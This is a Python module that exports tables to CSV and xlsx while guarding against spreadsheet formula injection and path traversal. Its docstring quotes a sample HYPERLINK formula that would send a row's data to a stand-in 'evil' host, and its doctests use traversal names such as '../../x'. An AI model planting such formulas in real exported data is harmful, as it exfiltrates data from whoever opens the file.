"""Tables for Excel users, written safely: one helper every export uses (action lists, churn lists, SLA
breaches, order lists ...).

Two dangers come with data that someone else typed (a SKU, a product name, a category):

* **Formula injection** (OWASP "CSV injection"). Excel and LibreOffice run a cell that starts with ``=``,
  ``+``, ``-`` or ``@`` as a formula (and tab or carriage return are read past), so a SKU
  ``=HYPERLINK("http://evil/?"&B2,"详情")`` becomes a live link that sends the row away. In CSV such a
  text cell gets a leading ``'`` (OWASP's advice), which Excel shows as text; the full-width forms
  ``＝ ＋ － ＠`` that Excel in CJK locales also reads as formulas are treated the same. In xlsx every text
  cell is stored as a string (never a formula), so it keeps its exact value, and a trigger cell also
  gets Excel's "quote prefix" style so it stays text when someone edits it. Numbers are never touched:
  ``-5`` in a number column is a number, and a text cell that is just a plain number (``"-5"``,
  ``"+86"``) runs nothing either.
* **File names from data**. A category ``../../x`` must not leave the export folder, a 300-character
  name must not exceed the file system's 255-byte limit, and ``服饰/鞋包`` must not create a folder.
  :func:`safe_filename` makes one file-name component out of any text; :func:`write_table` joins it
  to the folder and checks the result stays inside.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import math
import re
import unicodedata
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pandas as pd

from opslib.errors import ReportError

#: First characters that make a spreadsheet read a text cell as a formula (ASCII and full-width forms).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
#: A text cell that is only a plain decimal number: no formula can hide in it.
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
#: Characters that are not allowed (or not wise) in a file name on Linux, macOS or Windows.
_UNSAFE = re.compile(r'[\x00-\x1f\x7f/\\:*?"<>|]+')
_WINDOWS_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(1, 10)),
                     *(f"lpt{i}" for i in range(1, 10))}
#: Characters an xlsx file cannot hold at all (openpyxl refuses them); replaced by U+FFFD.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMATS = ("csv", "xlsx")


def safe_filename(text: Any, max_bytes: int = 120, fallback: str = "unnamed") -> str:
    """One file-name component made from any text: no folder separators, no control characters, no
    leading dots, at most ``max_bytes`` bytes of UTF-8.

    Formula: unsafe characters (``/ \\ : * ? " < > |``, control characters) become ``_``, runs of
    whitespace one space; leading dots and spaces are dropped (no hidden files, no ``..``); Windows'
    reserved names (``CON``, ``NUL`` ...) get a ``_`` prefix. A name longer than ``max_bytes`` is cut
    at a character boundary and ends in ``~`` + the first 8 hex digits of the SHA-1 of the full text,
    so two long names that share a beginning stay two files. Chinese and other letters are kept.

    Parameters:
        text: the wanted name (a category, a SKU, a report name ...); ``str()`` of anything else.
        max_bytes: the longest result in UTF-8 bytes (ext4 and APFS allow 255 per component; the default
            leaves room for a prefix, a date and a suffix).
        fallback: the name when nothing usable is left.

    Returns:
        The file-name component (never empty, never ``.`` or ``..``).

    Example:
        >>> safe_filename("../../x"), safe_filename("服饰/鞋包"), safe_filename("美妆 #1")
        ('x', '服饰_鞋包', '美妆 #1')
        >>> long = safe_filename("类" * 300)
        >>> len(long.encode()), long[-9:] == "~" + long[-8:]
        (120, True)
    """
    raw = unicodedata.normalize("NFC", str(text))
    name = _UNSAFE.sub("_", raw)
    name = re.sub(r"\s+", " ", name).strip()
    name = re.sub(r"^[._ ]*(?=[^._ ])", "", name) if re.search(r"[^._ ]", name) else ""
    name = name.rstrip(". ")  # Windows drops trailing dots and spaces
    if not name:
        name = fallback
    if name.split(".")[0].lower() in _WINDOWS_RESERVED:
        name = "_" + name
    if len(name.encode("utf-8")) > max_bytes:
        tag = "~" + hashlib.sha1(raw.encode("utf-8")).hexdigest()[:8]
        budget = max_bytes - len(tag)
        cut = name.encode("utf-8")[:budget].decode("utf-8", errors="ignore").rstrip(". ")
        name = cut + tag
    return name


def inside(folder: str | Path, name: str) -> Path:
    """``folder / name`` (resolved), or ReportError when it would lie outside ``folder``.

    Example:
        >>> inside("/tmp/out", "a.csv").as_posix()
        '/tmp/out/a.csv'
    """
    base = Path(folder).expanduser().resolve()
    target = (base / name).resolve()
    if target.parent != base and base not in target.parents:
        raise ReportError(f"export file name {name!r} would be written outside the export folder {base}")
    return target


def neutralise(value: Any) -> Any:
    """A text cell made safe for CSV: ``'`` in front when it starts with a formula trigger; anything else as
    it is.

    Formula: ``value`` is a ``str`` whose first character is in :data:`FORMULA_TRIGGERS` and that is not a
    plain number (``-12.5``) -> ``"'" + value``; otherwise ``value`` unchanged (numbers, dates, None).

    Example:
        >>> neutralise("=1+1"), neutralise("@SUM(A1)"), neutralise("-5"), neutralise(-5), neutralise("美妆")
        ("'=1+1", "'@SUM(A1)", '-5', -5, '美妆')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def is_formula_like(value: Any) -> bool:
    """True for a text cell a spreadsheet would read as a formula (see :func:`neutralise`).

    Example:
        >>> is_formula_like('=HYPERLINK("http://x")'), is_formula_like("+86 10"), is_formula_like("-3")
        (True, True, False)
    """
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are :func:`neutralise` d; number, date and
    boolean columns are left alone.

    Example:
        >>> f = pd.DataFrame({"sku": ["=1+1", "a"], "gmv": [-5.0, 2.0]})
        >>> neutralise_frame(f).to_dict("list")
        {'sku': ["'=1+1", 'a'], 'gmv': [-5.0, 2.0]}
    """
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or isinstance(s.dtype, (pd.StringDtype, pd.CategoricalDtype)):
            out[col] = s.astype(object).map(neutralise)
    out.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def _xlsx_value(value: Any) -> Any:
    """A cell value openpyxl can store: NaN/NaT/NA -> empty, tz-aware times -> naive, odd objects -> text."""
    if value is None:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    try:
        if pd.isna(value) is True:
            return None
    except (TypeError, ValueError):
        pass
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tzinfo else value.to_pydatetime()
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    if isinstance(value, str | bool | int | float | dt.date | dt.datetime | dt.time):
        return value
    if hasattr(value, "item"):  # numpy scalars
        return value.item()
    return str(value)


def write_xlsx(frame: pd.DataFrame, path: str | Path, sheet: str = "data") -> Path:
    """``frame`` as an xlsx workbook (one sheet, header row, no index) whose text cells are strings.

    Every ``str`` cell is stored with type string, so ``=1+1`` shows as the text ``=1+1`` and is never
    computed; cells that start with a formula trigger also get Excel's quote-prefix style. Characters an
    xlsx cannot hold (control characters other than tab, CR, LF) become U+FFFD; XML reads a carriage
    return back as a line feed.

    Example:
        >>> import os, tempfile
        >>> from openpyxl import load_workbook
        >>> p = write_xlsx(pd.DataFrame({"sku": ["=1+1"], "n": [-5]}), os.path.join(tempfile.mkdtemp(), "t.xlsx"))
        >>> [(c.value, c.data_type) for c in load_workbook(p).active[2]]
        [('=1+1', 's'), (-5, 'n')]
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    path = Path(path)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(safe_filename(sheet, max_bytes=31).replace("[", "(").replace("]", ")")[:31])

    def cell(value: Any) -> Any:
        value = _xlsx_value(value)
        if not isinstance(value, str):
            return WriteOnlyCell(ws, value=value)
        text = _XLSX_ILLEGAL.sub("\ufffd", value)
        c = WriteOnlyCell(ws, value=text)
        c.data_type = "s"  # openpyxl would otherwise store "=..." as a formula
        if is_formula_like(text):
            c.quotePrefix = True
        return c

    ws.append([cell(str(c)) for c in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        ws.append([cell(v) for v in row])
    wb.save(path)
    return path


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """``frame`` as CSV for Excel: UTF-8 with BOM (so Excel shows Chinese), no index, text cells neutralised.

    Example:
        >>> import os, tempfile
        >>> p = write_csv(pd.DataFrame({"sku": ["=1+1"]}), os.path.join(tempfile.mkdtemp(), "t.csv"))
        >>> p.read_text(encoding="utf-8-sig").splitlines()
        ['sku', "'=1+1"]
    """
    path = Path(path)
    # CRLF rows, as Excel writes them; it also makes the csv module quote a cell holding a bare CR, which
    # would otherwise split the row for every reader.
    neutralise_frame(frame).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path


def write_table(frame: pd.DataFrame, folder: str | Path, name: str, formats: Iterable[str] = FORMATS,
                sheet: str = "data") -> list[Path]:
    """Write ``frame`` into ``folder`` as ``<name>.csv`` and/or ``<name>.xlsx``, safely (module doc).

    ``name`` may come from data: it goes through :func:`safe_filename` and the file must land inside
    ``folder`` (created when missing; a relative folder is taken from the current working directory).

    Parameters:
        frame: the table (its index is not written).
        folder: the export folder.
        name: the file name without suffix, e.g. ``f"category_actions_{category}_{day}"``.
        formats: any of ``"csv"``, ``"xlsx"``.
        sheet: the xlsx sheet name.

    Returns:
        The paths written, in the order of ``formats``.

    Example:
        >>> import os, tempfile
        >>> d = tempfile.mkdtemp()
        >>> [p.name for p in write_table(pd.DataFrame({"a": [1]}), d, "actions_../../x")]
        ['actions_.._.._x.csv', 'actions_.._.._x.xlsx']
    """
    formats = [f.lower().lstrip(".") for f in formats]
    bad = [f for f in formats if f not in FORMATS]
    if bad or not formats:
        raise ReportError(f"export formats must be among {', '.join(FORMATS)}, got {', '.join(bad) or 'none'}")
    base = Path(folder).expanduser()
    if base.exists() and not base.is_dir():
        raise ReportError(f"export folder {base} is a file, not a folder")
    base.mkdir(parents=True, exist_ok=True)
    stem = safe_filename(name)
    written = []
    for fmt in formats:
        target = inside(base, f"{stem}.{fmt}")
        written.append(write_csv(frame, target) if fmt == "csv" else write_xlsx(frame, target, sheet=sheet))
    return written


def safe_export_path(path: str | Path) -> Path:
    """A complete export path (folder + file name) checked the old way callers build it, e.g.
    ``f"{export_dir}/category_actions_{category}_{day}.csv"``: the file name is made safe, and a path that
    goes down into a folder and back up (``x/../..``, what a name like ``../../x`` taken from data gives)
    is refused. Prefer :func:`write_table` with the folder and the name apart.

    Example:
        >>> safe_export_path("/tmp/out/actions_" + "类" * 300 + ".csv").name.endswith(".csv")
        True
        >>> safe_export_path("/tmp/out/actions_../../x.csv")
        Traceback (most recent call last):
        ...
        opslib.errors.ReportError: export path '/tmp/out/actions_../../x.csv' goes back up out of 'actions_..': a name taken from data (a category?) contains '/' or '..'; pass the folder and the name apart (write_table)
    """
    p = Path(path).expanduser()
    parts = p.parts
    for i, part in enumerate(parts):
        if part == ".." and i > 0 and parts[i - 1] not in ("..", p.anchor):
            raise ReportError(
                f"export path {str(path)!r} goes back up out of {parts[i - 1]!r}: a name taken from data "
                "(a category?) contains '/' or '..'; pass the folder and the name apart (write_table)")
    suffix = p.suffix if re.fullmatch(r"\.[A-Za-z0-9]{1,5}", p.suffix or "") else ""
    stem = p.name[: len(p.name) - len(suffix)] if suffix else p.name
    return p.parent / (safe_filename(stem) + suffix)
